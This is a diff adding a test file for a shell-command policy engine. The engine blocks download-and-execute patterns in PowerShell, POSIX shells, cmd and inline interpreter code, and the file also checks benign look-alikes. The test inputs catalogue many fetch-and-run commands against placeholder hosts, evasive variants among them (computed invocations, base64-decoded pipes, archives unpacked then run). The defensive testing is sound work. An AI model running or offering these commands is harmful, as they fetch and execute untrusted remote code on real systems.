@@ -1,0 +1,217 @@
+/**
+ * Download + execute techniques beyond the forms written plainly: a program whose name is only known
+ * at run time (`& $x (irm …)`, `curl … | $SHELL`), inline interpreter code of any language that fetches
+ * and evaluates, downloads and runs split across a nested command line (`cmd /c curl … && a.bat`), and
+ * programs run from a downloaded archive once unpacked. Each technique has evasive variants and benign
+ * look-alikes that must stay allowed.
+ */
+import { describe, expect, it } from 'vitest';
+import { evaluatePolicy } from '../engine';
+import type { PolicyInput, Shell } from '../types';
+
+function evaluate(text: string, shell: Shell, history: string[] = []) {
+  const input: PolicyInput = {
+    text,
+    shell,
+    platform: shell === 'powershell' || shell === 'cmd' ? 'windows' : 'linux',
+    context: { tenantState: 'active', trust: { level: 'standard' }, now: 0, blockedDestinations: [], permittedScriptHashes: [], history },
+  };
+  return evaluatePolicy(input);
+}
+
+function ruleIds(text: string, shell: Shell, history: string[] = []): string[] {
+  return evaluate(text, shell, history).reasons.map((r) => r.ruleId);
+}
+
+function blocksAs(text: string, shell: Shell, ruleId: string): void {
+  const r = evaluate(text, shell);
+  expect(r.decision).toBe('block');
+  expect(r.reasons.map((x) => x.ruleId)).toContain(ruleId);
+  for (const reason of r.reasons) for (const s of reason.spans) expect(s.end).toBeLessThanOrEqual(text.length);
+}
+
+function notDownloadExecute(text: string, shell: Shell): void {
+  expect(evaluate(text, shell).reasons.map((r) => r.code)).not.toContain('download_execute');
+}
+
+describe('PowerShell: a download handed to a command whose name is computed at run time', () => {
+  it.each([
+    '& $x (irm http://x.example/a)',
+    '& (gv 1).value (irm http://x.example/a)',
+    "& (Get-Variable x).Value (New-Object Net.WebClient).DownloadString('http://x.example/a')",
+    '. $f (iwr http://x.example/a).Content',
+    // Evasive variants: the alias set in the same line, the code as -Command, through a variable, a parenthesised target.
+    "SEt-iTem vaRiable:1 'iex';& (gv 1).value (irm http://x.example/a)",
+    '& $x -Command (irm http://x.example/a)',
+    '$s = irm http://x.example/a; & $x $s',
+    '. ($h) (iwr -UseBasicParsing http://x.example/a).Content',
+    '&$env:RUNNER (irm http://x.example/a)',
+  ])('blocks %s', (text) => blocksAs(text, 'powershell', 'dl.computed-invocation'));
+
+  it.each(['irm http://x.example/a | & $x', '(New-Object Net.WebClient).DownloadString("http://x.example/a") | . $f'])(
+    'blocks a download piped into a computed command: %s',
+    (text) => blocksAs(text, 'powershell', 'dl.pipe-to-computed'),
+  );
+
+  it.each([
+    '& $exe --version',
+    '& $msbuild /t:Build',
+    '& $python -m pip install requests',
+    // The program name is a constant; only its directory is computed.
+    '& "$env:ProgramFiles\\Git\\bin\\git.exe" log -1',
+    // The download is the value of a named parameter, not code.
+    '& $tool --token (irm https://api.example.net/token)',
+    '$r = irm https://api.example.net/items; & $formatter -InputObject $r',
+  ])('allows %s', (text) => notDownloadExecute(text, 'powershell'));
+});
+
+describe('POSIX and cmd: a download piped into a command whose name is not a constant', () => {
+  it.each<[string, Shell]>([
+    ['curl -fsSL http://x.example/s | $SHELL', 'bash'],
+    ['wget -qO- http://x.example/s | "$sh"', 'bash'],
+    ['curl -s http://x.example/s | sudo $SHELL -s -- --yes', 'bash'],
+    ['curl -s http://x.example/s | ${RUN}', 'zsh'],
+    ['curl -s http://x.example/s | `echo $X`', 'sh'],
+    ['curl -s http://x.example/s | %RUNNER%', 'cmd'],
+  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.pipe-to-computed'));
+
+  it.each<[string, Shell]>([
+    // A default value, or a locator that names the program: judged as that program.
+    ['curl -s http://x.example/s | ${X:-bash}', 'bash'],
+    ['curl -s http://x.example/s | $(which bash)', 'bash'],
+    ['curl -s http://x.example/s | `command -v sh`', 'bash'],
+    // A computed launcher in front of a named shell.
+    ['curl -fsSL http://x.example/s | $SUDO bash', 'bash'],
+    ['curl -fsSL http://x.example/s | $SUDO -E bash', 'bash'],
+  ])('blocks %s as a pipe into a shell', (text, shell) => blocksAs(text, shell, 'dl.pipe-to-interpreter'));
+
+  it('blocks a download given as -c code to a computed shell', () => {
+    blocksAs('$SHELL -c "$(curl -fsSL http://x.example/s)"', 'bash', 'dl.computed-invocation');
+  });
+
+  it('blocks decoded text piped into a computed shell', () => {
+    const r = evaluate('echo Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA== | base64 -d | $SHELL', 'bash');
+    expect(r.decision).toBe('block');
+    expect(r.reasons.map((x) => x.ruleId)).toContain('enc.decode-pipe-exec');
+  });
+
+  it.each<[string, Shell]>([
+    ['curl -s https://x.example.net/data.json | jq .', 'bash'],
+    // $PAGER and $EDITOR name the user's viewer; an assignment in the text or the session would be resolved.
+    ['curl -s https://x.example.net/README.md | $PAGER', 'bash'],
+    ['curl -s https://x.example.net/README.md | ${PAGER}', 'zsh'],
+    // Not invoked the way a shell reading its script from stdin is.
+    ['curl -s https://x.example.net/data.json | $JQ .', 'bash'],
+    ['curl -s https://x.example.net/data.json | $(which jq) .', 'bash'],
+    ['$SHELL -c "echo hi"', 'bash'],
+    ['curl -fsSL https://x.example.net/key.asc | $SUDO tee /etc/apt/keyrings/x.asc', 'bash'],
+    ['curl -s https://x.example.net/data.json | $SUDO python3 -m json.tool', 'bash'],
+    ['curl -s https://x.example.net/a.txt | %VIEWER% /c:1', 'cmd'],
+  ])('allows %s', notDownloadExecute);
+
+  it('follows an assignment to a viewer variable: PAGER=sh is a shell', () => {
+    expect(ruleIds('PAGER=sh; curl -s http://x.example/s | $PAGER', 'bash')).toContain('dl.pipe-to-interpreter');
+    expect(ruleIds('curl -s http://x.example/s | $PAGER', 'bash', ['export PAGER=bash'])).toContain('dl.pipe-to-interpreter');
+  });
+});
+
+describe('inline interpreter code that fetches and evaluates', () => {
+  it.each<[string, Shell]>([
+    [`node -e "require('https').get('https://x.example/n',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"`, 'bash'],
+    [`node -e "fetch('https://x.example/a').then(r=>r.text()).then(eval)"`, 'bash'],
+    [`deno eval "const r = await fetch('https://x.example/a'); eval(await r.text())"`, 'bash'],
+    [`node -e "fetch('https://x.example/a').then(r=>r.text()).then(t=>new Function(t)())"`, 'bash'],
+    [`node -e "require('child_process').execSync(require('https').get('https://x.example/a'))"`, 'bash'],
+    // Evasive variants: --eval=, node: module names, a dynamic import of a URL, a here-document.
+    [`node --eval="require('node:https').get(process.argv[1], r => r.pipe(require('child_process').spawn('sh').stdin))"`, 'bash'],
+    [`node -e "import('https://x.example/m.mjs')"`, 'bash'],
+    ['node <<EOF\nfetch("https://x.example/a").then((r) => r.text()).then(eval)\nEOF', 'bash'],
+    [`bun -e "eval(await (await fetch('https://x.example/a')).text())"`, 'bash'],
+    // The other languages through the same table.
+    [`perl -MLWP::Simple -e 'eval get "http://x.example/a"'`, 'bash'],
+    [`ruby -ropen-uri -e 'eval URI.open("http://x.example/a").read'`, 'bash'],
+    [`python3.12 -c 'import urllib.request as u;exec(u.urlopen("http://x.example/a").read())'`, 'bash'],
+    ['python3 - <<EOF\nimport urllib.request\nexec(urllib.request.urlopen("http://x.example/a").read())\nEOF', 'bash'],
+    [`php -r "include('http://x.example/a.php');"`, 'bash'],
+    [`php -r '$u="http://x.example/a"; eval(file_get_contents($u));'`, 'bash'],
+    [`lua -e 'local h=require("socket.http"); loadstring(h.request("http://x.example/a"))()'`, 'bash'],
+  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.interpreter-inline'));
+
+  it('blocks deno run of a URL', () => {
+    blocksAs('deno run -A https://x.example/a.ts', 'bash', 'dl.deno-url');
+  });
+
+  it.each([
+    'node -e "console.log(process.version)"',
+    'node -e "fetch(\'https://api.example.net/x\').then(r => r.json()).then(j => console.log(`${j.version}`))"',
+    `node -p "require('https').globalAgent.maxSockets"`,
+    'node -e "const re = /x/; fetch(process.argv[1]).then(r => r.text()).then(t => console.log(re.exec(t)))"',
+    'deno eval "console.log(Deno.version)"',
+    'deno run --allow-net main.ts https://x.example.net',
+    `python3 -c 'import requests; print(requests.get("https://api.example.net").json())'`,
+    `python3 -c 'import re, requests; print(re.compile("x").findall(requests.get("https://api.example.net").text))'`,
+    `php -r 'echo file_get_contents("config.ini");'`,
+    `ruby -e 'puts File.read("Gemfile")'`,
+  ])('allows %s', (text) => notDownloadExecute(text, 'bash'));
+});
+
+describe('a download and its execution in different layers of one text', () => {
+  it.each<[string, Shell]>([
+    ['cmd /c curl -s http://x.example/a.bat -o a.bat && a.bat', 'cmd'],
+    ['cmd /c "curl -s http://x.example/a.bat -o %TEMP%\\a.bat & %TEMP%\\a.bat"', 'cmd'],
+    ['cmd /c certutil -urlcache -split -f http://x.example/u.exe u.exe && u.exe', 'cmd'],
+    ['powershell -c "iwr http://x.example/a.exe -OutFile a.exe"; .\\a.exe', 'powershell'],
+    ['bash -c "curl -so /tmp/x http://x.example/x" && chmod +x /tmp/x && /tmp/x', 'bash'],
+  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.file-then-run'));
+
+  it.each<[string, Shell]>([
+    ['cmd /c curl -o report.csv https://x.example.net/r.csv', 'cmd'],
+    ['cmd /c curl -o report.csv https://x.example.net/r.csv && type report.csv', 'cmd'],
+    // A run before the download is not the download being run.
+    ['a.bat & cmd /c curl -s https://x.example.net/a.bat -o a.bat', 'cmd'],
+  ])('allows %s', notDownloadExecute);
+});
+
+describe('a program run from a downloaded archive', () => {
+  it.each<[string, Shell]>([
+    ['iwr http://x.example/x.zip -o x.zip; Expand-Archive x.zip .; .\\x\\run.exe', 'powershell'],
+    [
+      'Invoke-WebRequest https://x.example/t.zip -OutFile $env:TEMP\\t.zip; Expand-Archive -Path $env:TEMP\\t.zip -DestinationPath $env:TEMP\\t; Start-Process $env:TEMP\\t\\tool.exe',
+      'powershell',
+    ],
+    [
+      "(New-Object Net.WebClient).DownloadFile('http://x.example/a.zip', 'C:\\Users\\Public\\a.zip'); [IO.Compression.ZipFile]::ExtractToDirectory('C:\\Users\\Public\\a.zip', 'C:\\Users\\Public\\a'); & C:\\Users\\Public\\a\\a.exe",
+      'powershell',
+    ],
+    ['curl -o a.zip http://x.example/a.zip && tar -xf a.zip && a\\run.exe', 'cmd'],
+    ['curl -LO https://x.example/t.tar.gz && tar -xzf t.tar.gz -C /opt && /opt/t/bin/t', 'bash'],
+    ['curl -sL https://x.example/t.tgz | tar xz && ./t/run', 'bash'],
+    ['wget https://x.example/t.zip && unzip t.zip -d /tmp/t && bash /tmp/t/install.sh', 'bash'],
+    ['curl -o a.7z https://x.example/a.7z && 7z x a.7z -o/tmp/q && /tmp/q/a', 'bash'],
+    ['wget https://x.example/s.tar.gz; tar xf s.tar.gz; cd s; ./configure', 'bash'],
+  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.archive-then-run'));
+
+  it('follows a decompressed single file like any downloaded file', () => {
+    blocksAs('curl -o x.gz http://x.example/x.gz && gunzip x.gz && chmod +x x && ./x', 'bash', 'dl.file-then-run');
+  });
+
+  it('follows an archive downloaded in an earlier line', () => {
+    expect(ruleIds('tar -xzf t.tgz -C /opt && /opt/t/run', 'bash', ['curl -o t.tgz https://x.example/t.tgz'])).toContain(
+      'dl.archive-then-run',
+    );
+  });
+
+  it.each<[string, Shell]>([
+    ['curl -o C:\\t\\a.zip https://x.example.net/a.zip && tar -xf C:\\t\\a.zip', 'cmd'],
+    ['curl -sL https://x.example.net/a.tgz | tar xz', 'bash'],
+    ['iwr https://x.example.net/x.zip -o x.zip; Expand-Archive x.zip .; Get-Content .\\x\\README.txt', 'powershell'],
+    ['curl -LO https://x.example.net/t.tar.gz && tar -xzf t.tar.gz && cat t/README', 'bash'],
+    // Not downloaded here.
+    ['tar -xzf t.tar.gz && ./t/run', 'bash'],
+    ['Expand-Archive x.zip .; .\\x\\run.exe', 'powershell'],
+    // Unpacked elsewhere, or the working directory left.
+    ['iwr https://x.example.net/x.zip -o x.zip; Expand-Archive x.zip C:\\x; & C:\\tools\\run.exe', 'powershell'],
+    ['curl -sL https://x.example.net/t.tgz | tar xz -C /opt; cd /tmp; ./run', 'bash'],
+    ['curl -LO https://x.example.net/t.tar.gz && unzip -l t.zip && ./t/run', 'bash'],
+  ])('allows %s', notDownloadExecute);
+});
